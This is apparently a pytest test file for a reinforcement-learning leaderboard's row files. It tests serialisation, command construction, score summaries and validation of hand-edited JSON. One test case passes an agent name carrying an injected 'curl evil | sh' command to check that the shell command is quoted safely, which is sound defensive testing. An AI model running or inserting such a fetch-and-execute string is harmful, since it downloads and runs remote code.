"""Rows as files: what is written is read, and what cannot be is refused by its path."""

from __future__ import annotations

import dataclasses
import json

import numpy as np
import pytest

from metagym.errors import InvalidArgumentError
from metagym.leaderboard import Failure, Row, RowError, load_rows
from metagym.leaderboard.rows import find_suite


@pytest.fixture
def row(make_row) -> Row:
    return make_row(note="<b>a note</b>")


def test_what_is_saved_is_loaded(row, tmp_path):
    row = dataclasses.replace(row, space={"lr": [0.1, None]}, time_limit=2.5)
    row.save(tmp_path / "row.json")
    assert Row.load(tmp_path / "row.json") == row
    lines = (tmp_path / "row.json").read_text().splitlines()
    assert sum('"result":' in line for line in lines) == len(row.results) == 10
    (tmp_path / "board" / "tiny-v0").mkdir(parents=True)
    row.save(tmp_path / "board" / "tiny-v0" / "b.json")
    dataclasses.replace(row, name="first").save(tmp_path / "board" / "tiny-v0" / "a.json")
    (tmp_path / "board" / "tiny-v0" / "suite.json").write_text("no row")
    assert [found.name for found in load_rows(tmp_path / "board")] == ["first", row.name]


NAMED = "--out runs/my-adam --name 'My Adam'"


@pytest.mark.parametrize(
    ("fields", "command"),
    [
        ({"suite": "core-v0"}, f"adam core-v0 {NAMED}"),
        ({}, f"adam tiny-v0.json {NAMED}"),
        ({"ruleset": "external-tuning", "space": {"lr": [1]}, "time_limit": 1200.0},
         f"adam tiny-v0.json {NAMED} --ruleset external-tuning --space space.json "
         "--time-limit 1200"),
        ({"agent": "models/a.zip"}, f"models/a.zip tiny-v0.json {NAMED} --trust"),
        ({"agent": "models/a.zip", "name": "a"}, "models/a.zip tiny-v0.json --out runs/a --trust"),
        ({"agent": "./models", "name": "models"}, "./models tiny-v0.json --out runs/models"),
        ({"name": "adam"}, "adam tiny-v0.json --out runs/adam"),
        ({"agent": "a; curl evil | sh"}, f"'a; curl evil | sh' tiny-v0.json {NAMED}"),
    ],
)  # fmt: skip
def test_the_command_is_made_of_the_fields(fields, command):
    row = Row(
        **{"suite": "tiny-v0", "suite_digest": "", "name": "My Adam", "agent": "adam"} | fields
    )
    assert row.command == f"metagym leaderboard run {command}"


def test_a_folder_of_zip_files_is_run_with_trust(row):
    sb3 = [dataclasses.replace(e.result, agent_config={"policy": "MlpPolicy"}) for e in row.results]
    entries = [
        dataclasses.replace(e, result=result) for e, result in zip(row.results, sb3, strict=True)
    ]
    row = dataclasses.replace(row, results=tuple(entries))
    assert dataclasses.replace(row, agent="models").command.endswith(" --trust")
    assert "--trust" not in row.command  # a class of somebody's, whatever its config says


def test_scores_are_runs_by_tasks(row, suite):
    raw, scores = row.raw_scores(suite), row.normalised_scores(suite)
    assert raw.shape == scores.shape == (5, 2)
    by_place = {(entry.task, entry.seed): entry.result.mean for entry in row.results}
    assert raw[3, 0] == by_place["wide", 13]
    np.testing.assert_allclose(scores, (2.0 - raw) / 14.0)


def with_results(row, **fields) -> Row:
    """The row whose results all say something else."""
    entries = [
        dataclasses.replace(entry, result=dataclasses.replace(entry.result, **fields))
        for entry in row.results
    ]
    return dataclasses.replace(row, results=tuple(entries))


def test_failing_never_beats_playing(row, suite):
    bad = with_results(row, mean=9.0)  # the floor is 2, and smaller is better
    assert bad.normalised_scores(suite).tolist() == [[-0.5, -0.5]] * 5
    assert bad.scores(suite).tolist() == [[0.0, 0.0]] * 5
    summary = bad.summary(suite)
    assert summary["aggregate"]["mean"] == [0.0, 0.0, 0.0]
    assert summary["aggregate"]["optimality_gap"][0] == 1.0
    assert summary["tasks"]["wide"]["score"][0] == 9.0
    assert summary["tasks"]["wide"]["normalised"][0] == -0.5


def test_a_failure_counts_with_the_floor_and_a_gap_not_at_all(row, suite):
    failed = dataclasses.replace(
        row, results=row.results[1:],
        failures=(Failure(row.results[0].task, row.results[0].seed, "it broke", 7.0),),
    )  # fmt: skip
    assert failed.scores(suite)[0].tolist() == [row.scores(suite)[0, 0], 0.0]
    summary = failed.summary(suite)
    assert summary["tasks"]["narrow"]["failed"] == 1 and summary["tasks"]["narrow"]["runs"] == 5
    assert summary["tasks"]["wide"]["failed"] == 0 and summary["coverage"] == [9, 10]
    failure = {"task": "narrow", "seed": 10, "error": "it broke", "seconds": 7.0}
    assert summary["failures"] == [failure]
    assert summary["wall_time_s"] > 7.0
    with pytest.raises(RowError, match="unfinished: it lacks narrow, seed 10"):
        dataclasses.replace(row, results=row.results[1:]).scores(suite)


def test_another_suite_or_another_text_of_it_is_refused(row, suite):
    with pytest.raises(RowError, match="run the agent on it"):
        row.scores(dataclasses.replace(suite, summary="It says something else."))
    with pytest.raises(InvalidArgumentError, match="tiny-v0"):
        row.scores()


def test_the_name_of_a_suite_is_never_a_path(row, suite, tmp_path):
    path = tmp_path / "tiny-v0" / "suite.json"
    path.parent.mkdir()
    path.write_text(suite.to_json())
    with pytest.raises(InvalidArgumentError, match="none of metagym's suites, core-v0"):
        dataclasses.replace(row, suite=str(path)).suite_of()
    assert find_suite("tiny-v0", tmp_path) == suite
    for name in ("../tiny-v0", str(path.parent), "core-v0", "other"):
        assert find_suite(name, tmp_path / "tiny-v0") is None


def test_a_task_at_which_every_run_failed_has_no_score(make_row, suite):
    row = make_row("tests.leaderboard.agents:Raises")
    summary = json.loads(json.dumps(row.summary(suite), allow_nan=False))
    task = summary["tasks"]["narrow"]
    assert task["score"] is task["normalised"] is None and task["failed"] == task["runs"] == 5
    assert task["steps_to_target"] == {"median": None, "reached": 0.0}
    assert summary["coverage"] == [0, 10] and summary["wall_time_s"] > 0
    assert summary["kind"] == "unknown" and summary["training_seconds"] is None


def test_a_run_that_failed_is_the_slowest_to_the_target(row, suite):
    count = len(row.results[0].result.scores)
    shares = [1.0, 0.5, *[0.0] * (count - 2)]
    extras = {"steps_to_target": [1.0, 2.0, *[4.0] * (count - 2)], "target_reached": shares}
    slow = with_results(row, extras=extras)
    target = slow.summary(suite)["tasks"]["narrow"]["steps_to_target"]
    assert target == {"median": None, "reached": pytest.approx(1.5 / count)}
    fast = with_results(row, extras={k: [1.0] * count for k in extras})
    target = fast.summary(suite)["tasks"]["narrow"]["steps_to_target"]
    assert target == {"median": 1.0, "reached": 1.0}
    places = [("narrow", seed) for seed in (10, 11)]
    failed = dataclasses.replace(
        fast, results=tuple(e for e in fast.results if (e.task, e.seed) not in places),
        failures=tuple(Failure(*place, "it broke", 0.0) for place in places),
    )  # fmt: skip
    target = failed.summary(suite)["tasks"]["narrow"]["steps_to_target"]
    assert target == {"median": 1.0, "reached": pytest.approx(0.6)}


def test_the_summary_is_json_and_says_what_it_cost(row, suite):
    summary = json.loads(json.dumps(row.summary(suite), allow_nan=False))
    mean, low, high = summary["aggregate"]["mean"]
    assert mean == pytest.approx(row.scores(suite).mean()) and low <= mean <= high
    assert set(summary["aggregate"]) == {"mean", "median", "iqm", "optimality_gap"}
    assert len(summary["profile"]["thresholds"]) == len(summary["profile"]["fractions"])
    assert summary["env_steps"] == sum(entry.result.env_steps for entry in row.results) == 360
    commit = row.results[0].result.git_commit
    assert summary["commit"] == commit and summary["note"] == "<b>a note</b>"
    assert set(summary["tasks"]["narrow"]["steps_to_target"]) == {"median", "reached"}
    assert summary["tasks"]["wide"]["steps_to_target"] is None
    assert summary["command"] == row.command


def test_what_nobody_knows_is_not_zero(row, suite, make_row):
    unknown = row.summary(suite)  # somebody's class may have learned anything
    assert unknown["kind"] == "unknown" and unknown["trainings"] is None
    assert unknown["training_seconds"] is None and unknown["training_steps"] is None
    adam = make_row("adam").summary(suite)
    assert adam["kind"] == "hand-designed" and adam["tuned"] and adam["trainings"] is None
    assert adam["training_seconds"] == adam["training_steps"] == 0
    zipped = with_results(row, training={"steps": None, "seed": None}).summary(suite)
    assert zipped["kind"] == "trained" and zipped["training_steps"] is None
    assert not unknown["tuned"] and not unknown["own_budget"]


def test_one_checkpoint_is_one_training_however_often_it_plays(row, suite):
    record = {"steps": 100, "seconds": 1.0, "seed": 0}
    same = with_results(row, training=record, agent_config={"weights": "a"})
    assert same.summary(suite)["trainings"] == 1 and not same.summary(suite)["own_budget"]
    own = [
        dataclasses.replace(entry, result=dataclasses.replace(
            entry.result, training={**record, "seed": entry.seed, "steps": 1001},
        ))
        for entry in row.results
    ]  # fmt: skip
    five = dataclasses.replace(row, results=tuple(own))
    assert five.summary(suite)["trainings"] == 5 and five.summary(suite)["own_budget"]
    unlabelled = with_results(row, training={"steps": 100, "seed": None})
    assert unlabelled.summary(suite)["trainings"] == 1  # nothing tells them apart
    relabelled = with_results(five, agent_config={"weights": "a"})
    assert relabelled.summary(suite)["trainings"] == 1


def test_what_the_suite_trains_has_the_suites_budget(make_row, suite, toy):
    summary = make_row("toy").summary(suite)
    assert (summary["kind"], summary["trainings"], summary["own_budget"]) == ("trained", 5, False)
    assert summary["training_steps"] == 5000


def test_a_shared_checkpoint_is_paid_for_once(row, suite):
    def train(entry, record):
        result = dataclasses.replace(entry.result, training=record)
        return dataclasses.replace(entry, result=result)

    record = {"steps": 100, "seconds": 2.0}
    shared = [train(entry, record) for entry in row.results]
    once = dataclasses.replace(row, results=tuple(shared)).summary(suite)
    assert (once["training_steps"], once["training_seconds"]) == (100, 2.0)
    own = [train(entry, {**record, "seed": entry.seed}) for entry in row.results]
    each = dataclasses.replace(row, results=tuple(own)).summary(suite)
    assert (each["training_steps"], each["training_seconds"]) == (500, 10.0)


def delete(*path):
    def change(values):
        for key in path[:-1]:
            values = values[key]
        del values[path[-1]]

    return change


def put(value, *path):
    def change(values):
        for key in path[:-1]:
            values = values[key]
        values[path[-1]] = value

    return change


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (delete("name"), "name is missing"),
        (put(3, "name"), "name has to be text, not 3"),
        (put("x", "nmae"), "nmae is no field of a row. Did you mean 'name'"),
        (put({}, "results"), "results has to be a list"),
        (put(7, "results", 3), r"results\[3\] has to be an object"),
        (delete("results", 3, "task"), r"results\[3\]\.task is missing"),
        (put("0", "results", 3, "seed"), r"results\[3\]\.seed has to be a whole number, not '0'"),
        (put(True, "results", 3, "seed"), r"results\[3\]\.seed has to be a whole number"),
        (delete("results", 3, "result", "scores"), r"results\[3\]\.result\.scores is missing"),
        (put("1", "results", 3, "result", "scores", 2), r"results\[3\]\.result\.scores\[2\] has"),
        (put(9.0, "results", 3, "result", "scores", 2), r"results\[3\]\.result\.mean .* not its"),
        (put("1", "results", 3, "result", "seed"), r"results\[3\]\.result\.seed has to be"),
        (put(-1.0, "results", 0, "result", "wall_time_s"), r"results\[0\]\.result\.wall_time_s"),
        (put(1, "results", 0, "result", "formt"), r"results\[0\]\.result\.formt is no field"),
        (put(float("nan"), "results", 3, "result", "scores", 2),
         r"results\[3\]\.result\.scores\[2\] has to be a finite number, not nan"),
        (put(10**400, "results", 3, "result", "env_steps"), r"env_steps has to be a finite number"),
        (put([{"task": "a", "seed": 1, "seconds": 0}], "failures"), r"failures\[0\]\.error is"),
        (put([{"task": "a", "seed": 1, "seconds": -1, "error": ""}], "failures"),
         r"failures\[0\]\.seconds has to be at least 0, not -1"),
        (put({"lr": 3}, "space"), "space: The search space's lr=3 has to be a list"),
        (put(0, "time_limit"), "time_limit has to be positive, not 0"),
        (put("metagym evil", "command"), "command is no field of a row"),
        (put(99, "format"), "format 99, not 2; update metagym"),
        (put(1, "format"), "format 1, not 2; run the agent again"),
        (delete("format"), "not a row of a metagym leaderboard"),
    ],
)  # fmt: skip
def test_a_file_edited_by_hand_is_refused_by_the_path_of_the_field(row, change, message, tmp_path):
    values = json.loads(row.to_json())
    change(values)
    (tmp_path / "edited.json").write_text(json.dumps(values))
    with pytest.raises(RowError, match=rf"edited\.json: .*{message}"):
        Row.load(tmp_path / "edited.json")


@pytest.mark.parametrize("text", ["", "{", "[]", "null", "[" * 100_000, '{"format": 1e999}'])
def test_what_is_no_row_is_refused(text):
    with pytest.raises(RowError):
        Row.from_json(text)


def test_missing_files_and_folders(tmp_path):
    with pytest.raises(RowError, match=r"none\.json"):
        Row.load(tmp_path / "none.json")
    with pytest.raises(RowError, match="no folder of rows"):
        load_rows(tmp_path / "none")


@pytest.mark.parametrize(
    ("name", "value", "message"),
    [
        ("target_reached", 1.5, "from 0 to 1, not 1.5"),
        ("target_reached", -0.5, "from 0 to 1"),
        ("steps_to_target", -1.0, "at least 0"),
        ("lengths", -1, "at least 0"),
    ],
)
def test_what_episodes_tell_lies_where_it_can(row, name, value, message):
    values = json.loads(row.to_json())
    result = values["results"][3]["result"]
    result["extras"] |= {"steps_to_target": [1.0] * 6, "target_reached": [0.5] * 6}
    Row.from_json(json.dumps(values))
    (result if name == "lengths" else result["extras"])[name][2] = value
    path = name if name == "lengths" else f"extras.{name}"
    with pytest.raises(RowError) as caught:
        Row.from_json(json.dumps(values))
    assert str(caught.value).startswith(f"results[3].result.{path}[2] has to be {message}")
